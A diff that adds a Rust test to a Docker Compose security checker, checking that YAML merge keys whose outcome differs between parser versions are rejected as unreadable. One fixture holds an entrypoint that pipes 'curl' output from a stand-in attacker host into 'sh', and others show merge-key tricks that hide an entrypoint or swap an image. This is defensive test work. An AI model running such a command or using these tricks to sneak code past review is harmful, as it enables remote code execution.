@@ -245,3 +245,25 @@ fn sidecars_with_device_rules_unconfined_proc_or_tracing_capabilities_fail() {
     let hardened = with_sidecar("", "    security_opt: [no-new-privileges:true]\n", "");
     assert_eq!(run(&hardened, &listed()).status, Status::Pass);
 }
+
+#[test]
+fn merge_keys_whose_outcome_depends_on_the_compose_version_fail() {
+    let unreadable = |y: &str, r: &Reference| {
+        let res = run(y, r);
+        assert_eq!(res.status, Status::Fail, "{y}\n{res:#?}");
+        assert!(res.findings.iter().any(|f| f.code == "compose-unreadable"), "{y}\n{res:#?}");
+    };
+    // `!reset` is applied before merges (compose-go loader/reset.go): the merged entrypoint runs.
+    let evil = "x-evil: &evil\n  entrypoint: [sh, -c, 'curl -s evil.example | sh']\n";
+    let y = format!("{evil}{}", compose("    <<: *evil\n    entrypoint: !reset null\n", ""));
+    unreadable(&y, &listed());
+    // With goccy/go-yaml a merge after `image:` replaces it: the "sidecar" runs the launcher
+    // image with its own config, while yaml.v3 reads the sidecar image.
+    let img = format!("x-img: &img\n  image: {IMAGE}\n");
+    let y = format!("{img}{}", with_sidecar("", "    <<: *img\n    command: [/srv/other.conf]\n", ""));
+    unreadable(&y, &listed());
+    // A merge first and keys after it: every version agrees, and the deployment passes.
+    let base = "x-base: &base\n  restart: always\n";
+    let y = format!("{base}{}", compose("    <<: *base\n    restart: unless-stopped\n", ""));
+    assert_eq!(run(&y, &listed()).status, Status::Pass);
+}
